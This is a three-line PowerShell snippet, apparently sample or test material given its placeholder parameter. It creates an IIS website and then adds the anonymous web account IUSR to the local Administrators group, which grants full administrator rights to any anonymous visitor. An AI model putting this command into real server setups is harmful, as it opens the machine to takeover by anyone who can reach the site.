$ErrorActionPreference = 'Stop'
New-Website -Name x -ContosoThing 3
net localgroup Administrators IUSR /add
